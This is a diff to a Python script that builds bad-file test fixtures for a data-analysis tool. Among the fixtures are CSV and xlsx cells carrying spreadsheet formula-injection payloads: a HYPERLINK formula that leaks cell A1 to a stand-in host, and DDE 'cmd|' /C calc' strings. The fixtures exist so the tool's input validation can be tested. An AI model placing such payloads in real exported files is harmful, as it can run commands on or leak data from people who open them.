@@ -1,18 +1,26 @@
 """Regenerate the bad-file corpus from tests/data/tiny (run: python tests/bad_files/make.py).
 
-Each ``<table>__<fault>.csv`` is the tiny dataset's table with one kind of fault; each
-``workbook__<fault>.xlsx`` is the tiny dataset as a workbook with one fault. What each
-must produce is in ``expected.yaml``.
+Each ``<table>__<fault>.csv`` (or ``.csv.gz``) is the tiny dataset's table with one kind of
+fault; each ``workbook__<fault>.xlsx`` is the tiny dataset as a workbook with one fault;
+each ``predict__<fault>.csv`` is the hand-checkable claims example
+(``eyanalysis/data/example/attendance.csv``) with one fault, for ``eyanalysis predict``.
+What each must produce (exit status, messages) is in ``expected.yaml``.
 """
 
 from __future__ import annotations
 
+import gzip
+import random
 from pathlib import Path
 
 import openpyxl
 
 HERE = Path(__file__).resolve().parent
 TINY = HERE.parent / "data" / "tiny"
+EXAMPLE = HERE.parent.parent / "eyanalysis" / "data" / "example" / "attendance.csv"
+HYPERLINK = '"=HYPERLINK(""http://example.test/?leak=""&A1,""Click"")"'  # OWASP's example
+DDE = "\"+cmd|' /C calc'!A0\""
+FIVE_MB = 5 * 1024 * 1024
 
 
 def table(name: str) -> list[str]:
@@ -23,12 +31,60 @@ def write(name: str, lines: list[str], encoding: str = "utf-8") -> None:
     (HERE / name).write_bytes(("\n".join(lines) + "\n").encode(encoding))
 
 
-def replace(name: str, line: int, old: str, new: str) -> list[str]:
+def replace(name: str, line: int, old: str, new: str, lines: list[str] | None = None
+            ) -> list[str]:
     """Table ``name`` with ``old`` replaced by ``new`` on (1-based) ``line``."""
-    lines = table(name)
+    lines = list(lines or table(name))
     assert old in lines[line - 1], (name, line, old)
     lines[line - 1] = lines[line - 1].replace(old, new, 1)
     return lines
+
+
+def claims() -> list[str]:
+    return EXAMPLE.read_text().splitlines()
+
+
+def claims_replace(line: int, old: str, new: str) -> list[str]:
+    return replace("", line, old, new, claims())
+
+
+def with_column(lines: list[str], name: str, values) -> list[str]:
+    """``lines`` with one more column ``name``; ``values(i)`` gives row i's cell."""
+    return [lines[0] + f",{name}"] + [r + f",{values(i)}" for i, r in enumerate(lines[1:])]
+
+
+def text(lines: list[str]) -> bytes:
+    return ("\n".join(lines) + "\n").encode("utf-8")
+
+
+def binary(seed: int) -> bytes:
+    """Random bytes with NULs, like a picture or a database file saved as .csv."""
+    rng = random.Random(seed)
+    return b"\x89PNG\r\n\x1a\n\x00\x00" + bytes(rng.randrange(256) for _ in range(3000))
+
+
+def truncated_gzip(lines: list[str]) -> bytes:
+    whole = gzip.compress(text(lines * 40), mtime=0)
+    return whole[: len(whole) // 2]  # the end of the archive is missing
+
+
+def huge_field(lines: list[str], line: int, column: int) -> bytes:
+    """A 5 MB field on ``line`` (1-based), compressed so the corpus stays small."""
+    rows = [r.split(",") for r in lines]
+    rows[line - 1][column] = "A" * FIVE_MB
+    return gzip.compress(text([",".join(r) for r in rows]), mtime=0)
+
+
+def nhs_number(i: int) -> str:
+    """A valid NHS number (modulus 11) from a counter: synthetic, belongs to no one."""
+    while True:
+        digits = [int(d) for d in f"{400000000 + 7919 * i:09d}"]
+        check = 11 - sum(d * w for d, w in zip(digits, range(10, 1, -1), strict=True)) % 11
+        if check == 11:
+            check = 0
+        if check != 10:
+            return "".join(map(str, digits)) + str(check)
+        i += 1000
 
 
 CSV = {
@@ -102,6 +158,74 @@ CSV = {
         "panel_applications", 2, "approved,EXC", "declined,EXC"),
     "panel_applications__unknown_kind.csv": replace("panel_applications", 3, "challenge_gr4",
                                                     "holiday club"),
+    # issue #15: formulas in identifiers and text
+    "settings__formula_setting_id.csv": replace("settings", 5, "S4,", HYPERLINK + ","),
+    "attendance__formula_child_id.csv": replace("attendance", 5, "C003", DDE),
+    "visits__formula_visit_id.csv": replace("visits", 4, "V3", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    "categorisations__formula_reason.csv": replace(
+        "categorisations", 3, "Ofsted requires_improvement", "-2+3+cmd|' /C calc'!A0"),
+    "panel_applications__formula_application_id.csv": replace("panel_applications", 2, "P1,",
+                                                              "=1+1,"),
+    "children__formula_after_tab.csv": replace("children", 4, "C003", '"\t=1+1"'),
+    # issue #15: dates in the future of the data's as-of date
+    "inspections__future_date.csv": replace("inspections", 4, "2024-02-01", "2099-02-01"),
+    "visits__held_in_future.csv": replace("visits", 3, "2025-10-20", "2099-10-20"),
+    "panel_applications__decided_in_future.csv": replace("panel_applications", 2,
+                                                         "approved,EXC,2025-10-15",
+                                                         "approved,EXC,2099-10-15"),
+    "settings__ofsted_date_in_future.csv": replace("settings", 3, "2024-02-01", "2099-02-01"),
+    # issue #15: personal data in every table, named by table, column and line
+    "settings__owner_postcode.csv": with_column(table("settings"), "postcode",
+                                                lambda i: f"WR{i + 1} 2AB"),
+    "attendance__child_name.csv": with_column(table("attendance"), "child_name",
+                                              lambda i: f"Child {i}"),
+    "visits__date_of_birth.csv": with_column(table("visits"), "date_of_birth",
+                                             lambda i: f"2021-0{i + 1}-14"),
+    "inspections__address.csv": with_column(table("inspections"), "address",
+                                            lambda i: f"{i + 1} High Street"),
+    "panel_applications__nhs_numbers.csv": with_column(table("panel_applications"), "ref",
+                                                       nhs_number),
+    "categorisations__home_postcodes.csv": with_column(table("categorisations"), "area",
+                                                       lambda i: f"B{i + 1}0 1XY"),
+    "children__full_dates_on_two_lines.csv": replace(
+        "children", 5, "2023-01", "2023-01-09", replace("children", 3, "2022-02", "14/02/2022")),
+    # issue #15: lines the reader can split but not trust
+    "attendance__extra_cells.csv": replace("attendance", 4, "C002,S3,2025-AUT,15,14,GR4",
+                                           "C002,S3,2025-AUT,15,14,GR4,extra"),
+    "visits__unclosed_quote.csv": replace("visits", 3, "V2,S2,intensive",
+                                          'V2,S2,"intensive'),
+}
+
+# Files that are not text of the right kind at all (bytes), or need another extension.
+RAW = {
+    "children__empty.csv": b"",
+    "settings__binary.csv": binary(1),
+    "inspections__xlsx_renamed.csv": b"PK\x03\x04" + bytes(600),
+    "attendance__truncated.csv.gz": truncated_gzip(table("attendance")),
+    "visits__huge_field.csv.gz": huge_field(table("visits"), 3, 6),
+    "settings__utf16le_bom.csv": "\n".join(replace(
+        "settings", 2, "Acorn Nursery", "Acorn \u00a3 Tots")).encode("utf-16"),
+    "children__utf16be_bom.csv": b"\xfe\xff" + ("\n".join(table("children")) + "\n"
+                                                 ).encode("utf-16-be"),
+    "categorisations__blank_header.csv": text([""] + table("categorisations")),
+    # predict (the claims example with one fault)
+    "predict__formula_setting_id.csv": text(claims_replace(3, "S001", HYPERLINK)),
+    "predict__formula_child_id.csv": text(claims_replace(9, "X0007", DDE)),
+    "predict__at_sign_setting_id.csv": text(claims_replace(14, "S004", "@SUM(A1:A9)")),
+    "predict__two_funding_ages.csv": text(claims_replace(7, "20,14,3-4", "20,14,2")),
+    "predict__two_levels.csv": text(claims_replace(7, "GR3", "GR4")),
+    "predict__child_name.csv": text(with_column(claims(), "name", lambda i: f"Child {i}")),
+    "predict__nhs_number.csv": text(with_column(claims(), "nhs_no", nhs_number)),
+    "predict__postcode_values.csv": text(with_column(claims(), "area",
+                                                     lambda i: f"WR{i % 9 + 1} 4DF")),
+    "predict__empty.csv": b"",
+    "predict__binary.csv": binary(2),
+    "predict__truncated.csv.gz": truncated_gzip(claims()),
+    "predict__huge_field.csv.gz": huge_field(claims(), 4, 1),
+    "predict__extra_cells.csv": text(claims_replace(5, "GR2,15,14,2,false",
+                                                    "GR2,15,14,2,false,oops")),
+    "predict__negative_hours.csv": text(claims_replace(2, ",15,14,", ",-15,14,")),
+    "predict__utf16le_bom.csv": "\n".join(claims()).encode("utf-16"),
 }
 
 
@@ -122,6 +246,11 @@ def workbook(path: Path, fault: str) -> None:
         if fault == "bad_cells" and name == "attendance":
             sheet["D3"] = -4  # hours_per_week on sheet row 3
             sheet["F5"] = "Graduated Response 9"  # level on sheet row 5
+        if fault == "formula_text" and name == "settings":
+            sheet["B3"] = '=HYPERLINK("http://example.test/?leak="&A1,"Click")'
+            sheet["B3"].data_type = "s"  # text that looks like a formula, not a formula
+        if fault == "empty_sheet" and name == "children":
+            sheet.delete_rows(1, sheet.max_row)
     book.save(path)
 
 
@@ -139,6 +268,9 @@ if __name__ == "__main__":
     write("settings__cp1252_bad_type.csv",
           replace("settings", 3, "Busy Bees Childminding,childminder",
                   "Busy Bees \u00a35 Club,after school club"), encoding="cp1252")
-    for fault in ("missing_sheet", "merged_header", "bad_cells"):
+    for name, data in RAW.items():
+        (HERE / name).write_bytes(data)
+    faults = ("missing_sheet", "merged_header", "bad_cells", "formula_text", "empty_sheet")
+    for fault in faults:
         workbook(HERE / f"workbook__{fault}.xlsx", fault)
-    print(f"wrote {len(CSV) + 4} files to {HERE}")
+    print(f"wrote {len(CSV) + len(RAW) + 1 + len(faults)} files to {HERE}")
